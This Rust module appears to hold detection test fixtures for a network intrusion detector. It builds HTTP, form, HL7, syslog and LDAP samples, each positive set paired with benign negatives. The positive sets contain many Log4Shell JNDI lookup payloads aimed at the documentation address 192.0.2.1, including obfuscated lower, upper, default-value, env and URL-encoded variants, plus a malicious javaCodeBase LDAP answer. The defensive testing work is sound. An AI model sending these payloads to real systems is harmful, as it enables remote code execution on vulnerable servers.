//! Requests and messages that bear a lookup of Log4j, and answers of a directory.

use super::{Row, Said, joined};

/// A request for a page, as a client that gives itself this name asks for it.
fn request(agent: &str) -> Vec<u8> {
    format!("GET / HTTP/1.1\r\nHost: pacs.example\r\nUser-Agent: {agent}\r\n\r\n").into_bytes()
}

fn form(value: &str) -> Vec<u8> {
    let length = value.len() + 5;
    format!(
        "POST /login HTTP/1.1\r\nHost: pacs.example\r\nContent-Length: {length}\r\n\r\nuser={value}"
    )
    .into_bytes()
}

fn result(name: &str) -> Vec<u8> {
    format!("\x0bMSH|^~\\&|LAB|A|EMR|A|20240101||ORU^R01|1|P|2.5\rPID|1||42||{name}\r\x1c\r")
        .into_bytes()
}

fn attribute(name: &str, value: &str) -> Vec<u8> {
    let value = joined(&[&[4, value.len() as u8], value.as_bytes()]);
    joined(&[
        &[
            0x30,
            (name.len() + value.len() + 4) as u8,
            4,
            name.len() as u8,
        ],
        name.as_bytes(),
        &[0x31, value.len() as u8],
        &value,
    ])
}

pub(super) fn rows() -> Vec<Row> {
    let web = Said::Asked(8080);
    vec![
        Row::new(
            "log4shell",
            web,
            [
                request("${jndi:ldap://192.0.2.1/a}"),
                request("${JNDI:rmi://192.0.2.1/a}"),
                request("${jnDi:dns://192.0.2.1/${hostName}}"),
                request("${jndi:ldaps://192.0.2.1/a}"),
                form("${jndi:iiop://192.0.2.1/a}"),
            ],
            [request("jndi:ldap://192.0.2.1/a"), form("${jndy:ldap}")],
        ),
        Row::new(
            "log4shell",
            Said::Asked(2575),
            [result("${jndi:ldap://192.0.2.1/a}")],
            [result("JNDI^LDAP")],
        ),
        Row::new(
            "log4shell",
            Said::Datagram(514),
            [b"<13>ward-7 app: login of ${jndi:ldap://192.0.2.1/a}".to_vec()],
            [b"<13>ward-7 app: login of ${user}".to_vec()],
        ),
        Row::new(
            "log4shell-in-url",
            web,
            [
                form("%24%7Bjndi%3Aldap%3A%2F%2F192.0.2.1%2Fa%7D"),
                form("$%7bJNDI:ldap://192.0.2.1/a%7D"),
            ],
            [form("%24%7Bjn%20di%3A%7D")],
        ),
        Row::new(
            "log4shell-lower",
            web,
            [
                request("${${lower:j}ndi:ldap://192.0.2.1/a}"),
                request("${${LOWER:jn}di:ldap://192.0.2.1/a}"),
            ],
            [request("${lower}"), request("${lower:a-long-name}")],
        ),
        Row::new(
            "log4shell-upper",
            web,
            [request("${j${upper:n}di:ldap://192.0.2.1/a}")],
            [request("${upper}"), request("${upper:a-long-name}")],
        ),
        Row::new(
            "log4shell-default",
            web,
            [request("${j${::-n}di:ldap://192.0.2.1/a}")],
            [request("${name:-n}"), request("a ::-n}")],
        ),
        Row::new(
            "log4shell-environment",
            web,
            [request("${${env:NONE:-j}ndi:ldap://192.0.2.1/a}")],
            [request("${env:HOME}"), request("${env:PLACE:-/var/lib}")],
        ),
        Row::new(
            "jndi-code-base",
            Said::Answered(389),
            [attribute("javaCodeBase", "http://192.0.2.1:8000/")],
            [
                attribute("javaClassName", "http://192.0.2.1:8000/"),
                attribute("javaCodeBase", "file:/opt/classes/"),
                b"( 1.3.6.1.4.1.42.2.27.4.1.7 NAME 'javaCodeBase' DESC 'a place of classes, by http or else' )".to_vec(),
            ],
        ),
    ]
}
